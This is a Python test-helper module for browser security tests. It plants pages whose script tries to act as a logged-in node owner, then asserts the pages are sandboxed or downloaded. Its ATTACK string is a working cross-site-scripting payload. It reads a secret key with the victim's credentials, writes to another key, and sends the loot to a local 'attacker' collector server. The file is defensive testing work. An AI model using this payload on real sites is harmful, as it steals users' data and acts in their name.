"""Planted pages for browser tests: values whose script tries to act as the node's owner.

A planted page, opened by the logged-in owner, reads ``/~/secret/x``, writes ``/~/pwned`` and reports
what it got to a :class:`Collector` (an attacker's server on another loopback port). Served as data
(docs/trust-model.md, hardening 1) its script never runs.

Example::

    with collector() as loot:
        plant(url, stranger, key, html_page(loot.url), "text/html")
        out = run_browser(login_link, None, wait=None, extra_args=visit_args([f"{url}{key}?view"]))
        assert loot.paths == []
"""

from __future__ import annotations

import contextlib
import dataclasses
import itertools
import threading
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx

from statebus.identity import Identity, sign_op, sign_request
from statebus.oplog import Op, encode_op, mint_version

OP_TYPE = "application/vnd.statebus.op+json"
_CLOCK = itertools.count(1)

ATTACK = """
window.__planted = 'started';
(async () => {
  let loot = 'unread', put = 'unsent';
  try {
    const r = await fetch('/~/secret/x', {credentials: 'include'});
    loot = r.status + ' ' + await r.text();
  } catch (e) { loot = 'failed ' + e; }
  try {
    const r = await fetch('/~/pwned', {method: 'PUT', credentials: 'include',
      headers: {'Content-Type': 'application/json'}, body: JSON.stringify({loot})});
    put = String(r.status);
  } catch (e) { put = 'failed ' + e; }
  try {
    await fetch('COLLECTOR/loot?d=' + encodeURIComponent(loot + ' put=' + put), {mode: 'no-cors'});
  } catch (e) {}
  window.__planted = 'done';
})();
"""
"""The planted script (``COLLECTOR`` is replaced by the collector's URL)."""

PROBE = """(() => {
  let cookie;
  try { cookie = document.cookie } catch (e) { cookie = 'denied' }
  return {planted: window.__planted ?? null, origin: self.origin, cookie};
})()"""
"""What the harness evaluates in each visited tab: did the script run, in which origin, with cookies?"""

SANDBOXED = {"planted": None, "origin": "null", "cookie": "denied"}
"""The probe of a page rendered under ``CSP: sandbox``: no script ran, opaque origin, no cookies."""


def html_page(collector_url: str) -> bytes:
    script = ATTACK.replace("COLLECTOR", collector_url)
    return f"<!doctype html><title>planted</title><script>{script}</script>".encode()


def svg_image(collector_url: str) -> bytes:
    script = ATTACK.replace("COLLECTOR", collector_url)
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>planted</title>'
        f"<script><![CDATA[{script}]]></script></svg>"
    ).encode()


def visit_args(urls: Sequence[str], wait_ms: int = 4000) -> list[str]:
    """``browser.mjs`` options that open ``urls`` in tabs after the first page and probe each."""
    out: list[str] = []
    for url in urls:
        out += ["--visit", url]
    return [
        *out,
        "--visit-wait",
        "window.__planted === 'done'",
        "--visit-wait-ms",
        str(wait_ms),
        "--visit-probe",
        PROBE,
    ]


def assert_sandboxed(visits: Sequence[dict[str, Any]], urls: Sequence[str]) -> None:
    """Each plain URL of ``urls`` was a download; each ``?view`` rendered under ``CSP: sandbox``, in an
    opaque origin, and its script never ran (``visits`` as ``browser.mjs --visit`` reports them)."""
    assert [v["url"] for v in visits] == list(urls), visits
    for seen in visits:
        assert seen["error"] is None, seen
        if not str(seen["url"]).endswith("?view"):
            assert seen["download"] is True, seen  # an active value is a download, never a page
            continue
        assert seen["status"] == 200 and seen["title"] == "planted", seen
        assert seen["headers"]["content-security-policy"] == "sandbox", seen
        assert seen["waited"] is False and seen["probe"] == SANDBOXED, seen


@dataclasses.dataclass
class Collector:
    """An attacker's server on another loopback port: ``paths`` holds every request path it got."""

    url: str
    paths: list[str]

    @property
    def loot(self) -> list[str]:
        return [p for p in self.paths if p.startswith("/loot")]


@contextlib.contextmanager
def collector() -> Iterator[Collector]:
    """Run a :class:`Collector` on 127.0.0.1, port 0; stopped on exit."""
    paths: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, name="planted-collector", daemon=True)
    thread.start()
    try:
        yield Collector(f"http://127.0.0.1:{server.server_address[1]}", paths)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def plant(base_url: str, who: Identity, key: str, body: bytes, content_type: str) -> httpx.Response:
    """Store ``body`` at ``key`` (a full key) as ``who``'s signed op, in a request signed by ``who``."""
    op = Op(key, "", (), who.pubkey, next(_CLOCK), "lww", "set", body, content_type)
    data = encode_op(sign_op(dataclasses.replace(op, version=mint_version(op)), who))
    with httpx.Client(base_url=base_url, timeout=10) as anon:
        req = anon.build_request("PUT", key, content=data, headers={"Content-Type": OP_TYPE})
        req.headers.update(sign_request(req.method, str(req.url), req.headers, req.content, who))
        return anon.send(req)


__all__ = [
    "ATTACK",
    "PROBE",
    "SANDBOXED",
    "Collector",
    "assert_sandboxed",
    "collector",
    "html_page",
    "plant",
    "svg_image",
    "visit_args",
]
